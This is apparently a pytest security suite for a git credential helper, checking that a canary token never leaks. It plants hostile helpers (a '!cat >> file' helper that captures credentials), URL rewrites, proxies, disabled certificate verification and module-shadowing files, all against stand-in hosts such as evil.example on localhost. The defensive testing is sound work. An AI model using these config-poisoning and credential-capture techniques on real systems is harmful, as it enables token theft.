"""Abuses of the credential helper: no byte of the token goes to any place but the opened repository's own.

Three tables: requests as git or an attacker might write them; URLs that real git reads with our settings;
real git against servers that want the token. A positive control shows that each way would carry it.
"""

from __future__ import annotations

import base64
import os
import subprocess
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, replace
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gitsession import credentials, run
from gitsession.address import Address, parse_address
from gitsession.agent.control import Server
from gitsession.agent.token import credential_operation
from gitsession.credentials import Token
from tests.rig.certificates import Certificates, issue
from tests.rig.hostile_server import HostileServer, Seen
from tests.security.abuses import ATTACKS, GOOD, REQUESTS, URLS

CANARY = "ghp_Canary0canary1canary2canary3canary4"
SHAPES = (CANARY.encode(), base64.b64encode(f"x-access-token:{CANARY}".encode()))
TOKEN = Token(CANARY, "a test")
OPENED = parse_address("https://github.com/ada/digits")
FORK = parse_address("https://github.com/grace/digits")


def judged(text: bytes, opened: Address = OPENED, fork: Address | None = None) -> dict[str, str] | None:
    return credentials.answer(credentials.parse(text), opened, fork, TOKEN)


def test_the_control_is_answered() -> None:
    assert judged(GOOD) == {"username": "x-access-token", "password": CANARY}


def test_there_are_at_least_150_abuses() -> None:
    assert len(REQUESTS) + len(URLS) + len(ATTACKS) >= 150


@pytest.mark.parametrize("name", REQUESTS)
def test_a_request_gets_nothing(name: str) -> None:
    assert judged(REQUESTS[name]) is None


FIELDS = ["protocol", "host", "path", "url"]
WORDS = [
    "username",
    "https",
    "http",
    "github.com",
    "evil.example",
    "ada/digits",
    "ada/digits.git",
    "info/lfs",
]
MARKS = ["=", "/", "..", ":", "@", ".git", "%2e", "[]", "x", "\n", "\n\n", "\r", "\0", " "]
PIECES = st.sampled_from([*FIELDS, *WORDS, *MARKS])
TEXTS = st.one_of(st.binary(max_size=300), st.lists(PIECES, max_size=30).map(lambda p: "".join(p).encode()))


def fields_of(text: bytes) -> list[tuple[str, str]]:
    """An independent, plain reading of what an accepted request says."""
    lines = text.decode().rstrip("\n").split("\n")
    return [(line.split("=", 1)[0], line.split("=", 1)[1]) for line in lines if line]


@settings(max_examples=600, deadline=None)
@given(TEXTS)
def test_whatever_is_answered_says_plainly_that_it_is_ours(text: bytes) -> None:
    if judged(text, fork=FORK) is not None:
        said = [
            (name, value) for name, value in fields_of(text) if name in ("protocol", "host", "path", "url")
        ]
        assert sorted(name for name, _ in said) == ["host", "path", "protocol"]
        values = dict(said)
        assert values["protocol"] == "https"
        assert values["host"].lower() == "github.com"
        plain = values["path"].replace(".git", "", 1)
        assert plain in ("ada/digits", "grace/digits") or plain.startswith(
            ("ada/digits/info/lfs", "grace/digits/info/lfs")
        )


@settings(max_examples=300, deadline=None)
@given(st.integers(0, len(GOOD)), st.binary(min_size=1, max_size=4))
def test_a_good_request_with_bytes_pushed_in(at: int, pushed: bytes) -> None:
    text = GOOD[:at] + pushed + GOOD[at:]
    if judged(text) is not None:
        values = dict(fields_of(text))
        assert (values["protocol"], values["host"].lower()) == ("https", "github.com")
        assert values["path"].removesuffix(".git") == "ada/digits"


@dataclass(frozen=True)
class Rig:
    """A keeper that holds the canary for one repository on `hub.example`, and two servers that want it."""

    home: Path
    env: Mapping[str, str]
    own: HostileServer
    evil: HostileServer

    def git(self, *arguments: str, **configured: str) -> subprocess.CompletedProcess[str]:
        """Run the user's git; `configured` is what somebody has planted in their configuration."""
        for name, value in configured.items():
            self.run(["git", "config", "--global", name.replace("__", "."), value])
        return self.run(["git", *arguments])

    def run(self, argv: Sequence[str], told: str = "") -> subprocess.CompletedProcess[str]:
        """Run a program in the user's shell."""
        return subprocess.run(
            argv,
            input=told,
            cwd=self.home,
            env=dict(self.env),
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )

    def fill(self, url: str) -> str:
        """Everything that `git credential fill` says about a URL."""
        done = self.run(["git", "credential", "fill"], f"url={url}\n\n")
        return done.stdout + done.stderr

    def place(self, text: str) -> str:
        """A URL with the two servers' ports in the places of `OWN` and `EVIL`."""
        return text.replace("OWN", str(self.own.port)).replace("EVIL", str(self.evil.port))


NAMES = (
    "hub.example", "hub.example.evil.example", "evilhub.example", "www.hub.example", "hub.exam",
    "evil.example",
)  # fmt: skip


@pytest.fixture(scope="module")
def valid(tmp_path_factory: pytest.TempPathFactory) -> Certificates:
    """The attacker has a certificate that git trusts, for every name."""
    return issue(tmp_path_factory.mktemp("valid"), NAMES)


@pytest.fixture
def rig(sealed: Path, valid: Certificates) -> Iterator[Rig]:
    with HostileServer(valid) as own, HostileServer(valid) as evil:
        opened = parse_address(f"https://hub.example:{own.port}/ada/digits")
        socket = sealed / "keeper.sock"
        failures: list[Exception] = []
        operations = {"credential": credential_operation(opened, None, lambda: TOKEN)}
        server = Server(socket, operations, failures.append)
        server.start()
        asking = credentials.configuration([opened], socket, run.program(), environ={})
        with (sealed / "home/.gitconfig").open("a") as config:
            config.write("[http]\n")
            for name in NAMES:
                config.writelines(
                    f"curloptResolve = {name}:{port}:127.0.0.1\n" for port in (own.port, evil.port)
                )
        env = {**os.environ, **asking, "GIT_SSL_CAINFO": str(valid.authority), "GIT_ASKPASS": ""}
        yield Rig(sealed, env, own, evil)
        server.stop()
        assert failures == []


def holds(seen: list[Seen]) -> list[Seen]:
    return [request for request in seen if any(shape in request.text for shape in SHAPES)]


def test_the_control_carries_the_token_to_its_own_place(rig: Rig) -> None:
    assert CANARY in rig.fill(rig.place("https://hub.example:OWN/ada/digits.git"))
    rig.git("ls-remote", rig.place("https://hub.example:OWN/ada/digits"))
    arrived = holds(rig.own.seen)
    assert [(request.host, request.path) for request in arrived] == [
        (f"hub.example:{rig.own.port}", "/ada/digits/info/refs?service=git-upload-pack")
    ]


def test_git_is_told_nothing_for_another_url(rig: Rig) -> None:
    told = [name for name, url in URLS.items() if CANARY in rig.fill(rig.place(url))]
    assert told == []


def test_no_server_gets_it(rig: Rig) -> None:
    reached = [name for name, url in ATTACKS.items() if rig.git("ls-remote", rig.place(url)).returncode == 0]
    assert reached == []
    assert holds(rig.own.seen) == holds(rig.evil.seen) == []


OWN = "https://hub.example:OWN/ada/digits"


@pytest.mark.parametrize("follow", ["true", "initial", "false"])
@pytest.mark.parametrize("behaviour", ["redirect", "challenge then redirect"])
@pytest.mark.parametrize("host", ["evil.example", "hub.example"])
def test_a_redirect_takes_it_nowhere(rig: Rig, behaviour: str, follow: str, host: str) -> None:
    """From the opened repository, before and after it has seen the token, to a server that asks again."""
    rig.own.behaviour = "redirect" if behaviour == "redirect" else "challenge then redirect"
    rig.own.target = f"https://{host}:{rig.evil.port}"
    rig.git("ls-remote", rig.place(OWN), http__followRedirects=follow)
    assert holds(rig.evil.seen) == []


def test_a_redirect_to_another_repository_of_the_same_host(rig: Rig) -> None:
    rig.own.behaviour = "redirect"
    rig.own.target = f"https://hub.example:{rig.evil.port}/ada/secrets?"
    rig.git("ls-remote", rig.place(OWN), http__followRedirects="true")
    assert holds(rig.evil.seen) == []


@pytest.mark.parametrize("setting", ["insteadOf", "pushInsteadOf"])
def test_a_url_that_is_rewritten(rig: Rig, setting: str) -> None:
    evil, own = rig.place("https://evil.example:EVIL/"), rig.place("https://hub.example:OWN/")
    rig.git("init", "-q", "r")
    rig.git("config", "--global", f"url.{evil}.{setting}", own)
    rig.git("-C", "r", "push", rig.place(OWN), "HEAD:refs/heads/x")
    rig.git("-C", "r", "ls-remote", rig.place(OWN))
    assert rig.evil.seen or setting == "pushInsteadOf"
    assert holds(rig.evil.seen) == []


@pytest.mark.parametrize(
    "url", ["https://evil.example:EVIL/ada/digits", "https://hub.example:OWN/ada/secrets"]
)
def test_a_submodule(rig: Rig, url: str) -> None:
    rig.git("init", "-q", "r")
    rig.git("-C", "r", "submodule", "add", rig.place(url), "s")
    assert rig.evil.seen or rig.own.seen
    assert holds(rig.own.seen) == holds(rig.evil.seen) == []


@pytest.mark.parametrize(
    "planted",
    [
        "credential.helper",
        "credential.https://hub.example:OWN.helper",
        "credential.https://hub.example:OWN/ada/digits.helper",
        "credential.https://ada@hub.example:OWN/ada/digits.helper",
    ],
)
@pytest.mark.parametrize("url", [OWN, OWN.replace("https://", "https://ada@")])
def test_a_helper_of_others_is_not_told_it(rig: Rig, planted: str, url: str) -> None:
    """git hands a credential that worked to every helper: ours resets the list first."""
    heard = rig.home / "heard"
    rig.git("config", "--global", rig.place(planted), f"!cat >> {heard}; :")
    text = rig.fill(rig.place(url)).strip() + "\n\n"
    assert CANARY in text
    for verb in ("approve", "reject"):
        rig.run(["git", "credential", verb], text)
    assert CANARY not in (heard.read_text() if heard.exists() else "")


@pytest.mark.parametrize("scope", ["http", "http.https://hub.example:OWN", f"http.{OWN}"])
@pytest.mark.parametrize("verify", ["false", "true"])
def test_a_planted_proxy_that_opens_tunnels(rig: Rig, sealed: Path, verify: str, scope: str) -> None:
    """With `sslVerify=false` planted too, only our own setting for this URL stands before it."""
    (sealed / "forged").mkdir()
    with HostileServer(None, inside=issue(sealed / "forged", NAMES)) as proxy:
        rig.git("config", "--global", rig.place(f"{scope}.proxy"), proxy.site)
        rig.git("config", "--global", rig.place(f"{scope}.sslVerify"), verify)
        done = rig.git("ls-remote", rig.place(OWN))
    assert done.returncode != 0
    assert proxy.seen, "the proxy was asked"
    assert holds(proxy.seen) == []


def test_a_forged_certificate_without_verification(rig: Rig, sealed: Path) -> None:
    """Somebody answers for the opened repository's own name, and verification is switched off for all."""
    (sealed / "forged").mkdir()
    rig.own.stop()
    with HostileServer(issue(sealed / "forged", NAMES), port=rig.own.port) as forged:
        done = rig.git("ls-remote", rig.place(OWN), http__sslVerify="false")
        assert done.returncode != 0
        assert holds(forged.seen) == []
    rig.own.start()


@pytest.mark.parametrize("kind", ["store", "erase"])
def test_what_git_wants_kept_is_not_kept(rig: Rig, kind: str) -> None:
    before = sorted(path for path in rig.home.rglob("*") if path.is_file())
    told = f"protocol=https\nhost=h\nusername=u\npassword={CANARY}\n"
    done = rig.run([*run.program(), "credential", "--socket", str(rig.home / "keeper.sock"), kind], told)
    assert (done.stdout, done.stderr) == ("", "")
    assert sorted(path for path in rig.home.rglob("*") if path.is_file()) == before


@pytest.mark.parametrize(
    "arguments", [[], ["--socket"], ["get", "extra"], ["--token"], ["--socket", "/nowhere", "get"], ["fill"]]
)
def test_a_call_that_git_would_not_make_prints_no_credential(rig: Rig, arguments: list[str]) -> None:
    done = rig.run([*run.program(), "credential", *arguments], GOOD.decode())
    assert done.stdout == ""
    assert "Traceback" not in done.stderr


def test_a_hostile_work_tree_does_not_become_the_helper(rig: Rig) -> None:
    """git starts the helper in the work tree: modules that lie there are not ours."""
    tree = rig.home / "tree"
    for name in ("gitsession", "json", "socket", "re", "sitecustomize"):
        (tree / name).mkdir(parents=True)
        (tree / name / "__init__.py").write_text(f"open({str(rig.home / 'fired')!r}, 'w').close()\n")
        (tree / f"{name}.py").write_text(f"open({str(rig.home / 'fired')!r}, 'w').close()\n")
    rig.git("-C", "tree", "init", "-q")
    hostile = replace(rig, home=tree, env={**rig.env, "PYTHONPATH": "."})
    done = hostile.run(["git", "credential", "fill"], f"url={rig.place(OWN)}\n\n")
    assert CANARY in done.stdout
    assert not (rig.home / "fired").exists()
